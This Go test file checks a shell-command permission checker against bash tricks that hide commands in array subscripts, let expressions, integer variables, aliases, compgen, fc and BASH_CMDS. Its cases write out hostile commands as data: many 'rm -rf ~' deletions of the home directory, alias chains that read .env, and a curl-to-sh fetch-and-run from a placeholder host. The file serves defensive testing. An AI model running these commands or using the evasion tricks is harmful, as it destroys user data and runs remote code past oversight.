package rewrite

import "testing"

// TestArithmeticEvaluation: text bash evaluates as arithmetic outside
// $(( )) — let's words, array subscripts, the values of a declare -i
// variable — is judged as the commands its substitutions run; an
// associative array's subscripts and test's integers are not evaluated.
func TestArithmeticEvaluation(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, nil)
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{`let 'a[$(rm -rf ~)]=1'`, "deny"},
		{`let 'x=a[$(rm -rf ~)]'`, "deny"},
		{`let "a[\$(rm -rf ~)]=1"`, "deny"},
		{`declare -i y; y='a[$(rm -rf ~)]'`, "deny"},
		{`arr['$(rm -rf ~)']=1`, "deny"},
		{`arr=(['$(rm -rf ~)']=1)`, "deny"},
		{`echo ${arr['$(rm -rf ~)']}`, "deny"},
		{`x='a[$(rm -rf ~)]'; arr[x]=1`, "deny"},
		{`x='a[$(rm -rf ~)]'; arr=([x]=1)`, "deny"},
		{`x='a[$(rm -rf ~)]'; arr[x]+=1`, "deny"},
		{`x='a[$(rm -rf ~)]'; declare arr[x]=1`, "deny"},
		{`x='a[$(rm -rf ~)]'; typeset -i y=x`, "deny"},
		{`x='a[$(rm -rf ~)]'; read -d "" arr[x] </dev/null`, "deny"},
		{`x='a[$(rm -rf ~)]'; z=( [x]=1 )`, "deny"},
		{`x='a[$(rm -rf ~)]'; y+=1; declare -i y; y+=x`, "deny"},
		{`f() { local -i n; n='a[$(rm -rf ~)]'; }; f`, "deny"},
		// Look-alikes.
		{`let i=i+1`, "allow"},
		{`let 'a[1]=2'`, "allow"},
		{`declare -i n=5; n+=1`, "allow"},
		{`arr[i]=x; arr[$i]=1; echo "${arr[i]}"`, "allow"},
		{`(( count++ ))`, "allow"},
		{`x='a[$(rm -rf ~)]'; [ "$x" -eq 1 ]`, "allow"},
		{`x='a[$(rm -rf ~)]'; test "$x" -eq 1; printf %d "$x"`, "allow"},
		{`declare -A m; x='a[$(rm -rf ~)]'; m[x]=1; echo "${m[x]}"`, "allow"},
		{`declare -A m=(['$(rm -rf ~)']=1)`, "allow"},
		{`x='a[$(rm -rf ~)]'; declare -i y; declare +i y; y=x`, "allow"},
	})
}

// TestBuiltinsThatRunText: compgen's -C command and -W list, fc -s's
// history entry and an alias assigned through BASH_ALIASES are judged as
// the commands they are; text only run time knows asks.
func TestBuiltinsThatRunText(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, nil)
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{`compgen -C 'rm -rf ~' x`, "deny"},
		{`compgen -W '$(rm -rf ~)' x`, "deny"},
		{`f() { rm -rf ~; }; compgen -F f x`, "deny"},
		{`compgen -C "$CMD" x`, "ask"},
		{`history -s 'rm -rf ~'; fc -s`, "deny"},
		{`history -s 'rm -rf /tmp/x'; fc -s /tmp/x=~`, "deny"},
		{`history -s rm -rf '~'; fc -e -`, "deny"},
		{`printf 'rm -rf ~\n' > h; history -r h; fc -s`, "ask"},
		{`fc -s`, "ask"},
		{`FCEDIT=sh fc`, "ask"},
		{`fc -e CMD`, "ask"},
		{"BASH_ALIASES[x]='rm -rf ~'\nx", "deny"},
		{"declare -n r=BASH_ALIASES; r[x]='rm -rf ~'\nx", "deny"},
		{"read 'BASH_ALIASES[x]' < cmd.txt\nx", "ask"},
		// BASH_CMDS and hash -p: the name runs the path given.
		{`BASH_CMDS[ls]=/bin/rm; ls -rf ~`, "deny"},
		{`BASH_CMDS=([git]=/usr/bin/rm); git -rf ~`, "deny"},
		{`f() { BASH_CMDS[ls]=/bin/rm; }; f; ls -rf ~`, "deny"},
		{`hash -p /bin/rm ls; ls -rf ~`, "deny"},
		{`read 'BASH_CMDS[ls]' < p.txt; ls -la`, "ask"},
		// An alias ending in a blank: the next word is an alias too.
		{"alias sudo='sudo '\nalias x='rm -rf ~'\nsudo x", "deny"},
		{"alias c='cat '\nalias e=.env\nc e", "deny"},
		{"alias sudo='sudo '\nalias ll='ls -l'\nsudo ll /root", "allow"},
		{"alias c=cat\nalias e=.env\nc e", "allow"},
		// Names taken from values: ${!x} and name references.
		{`x='a[$(rm -rf ~)]'; : ${!x}`, "deny"},
		{`declare -n r='a[$(curl -s https://x.example/p | sh)]'; r=1`, "ask"},
		{`f() { local -n r=$1; r=1; }; f 'a[$(rm -rf ~)]'`, "deny"},
		{`v=HOME; echo ${!v}`, "allow"},
		{`f() { local -n out=$1; out=done; }; f result; echo $result`, "allow"},
		// Integer variables evaluate what read and mapfile store.
		{`declare -i n; mapfile -t n <<< 'a[$(rm -rf ~)]'`, "deny"},
		{`declare -i n; read n < count.txt`, "allow"},
		{`declare -i n; read n < count.txt; n='a[$(rm -rf ~)]'`, "deny"},
		// Look-alikes.
		{`BASH_CMDS[python]=/usr/bin/python3; python x.py`, "allow"},
		{`hash -p /usr/bin/python3 python3; python3 x.py`, "allow"},
		{`(BASH_CMDS[ls]=/bin/rm); ls -la ~`, "allow"},
		{`declare -i n; read n <<< 5; echo $((n + 1))`, "allow"},
		{`read n < count.txt; echo $((n + 1))`, "allow"},
		{`compgen -W "start stop" -- "$cur"`, "allow"},
		{`compgen -W "$(ls)" -- "$cur"`, "allow"},
		{`compgen -C 'ls' x`, "allow"},
		{`history`, "allow"},
		{`fc -l`, "allow"},
		{`fc -ln -5; fc --help`, "allow"},
		{`history -s 'ls -l'; fc -s`, "allow"},
		{`history -s 'rm -rf ~'; history -c; fc -s`, "allow"},
		{"BASH_ALIASES[ll]='ls -l'\nll", "allow"},
		{"BASH_ALIASES[x]='rm -rf ~'; x", "allow"},
	})
}
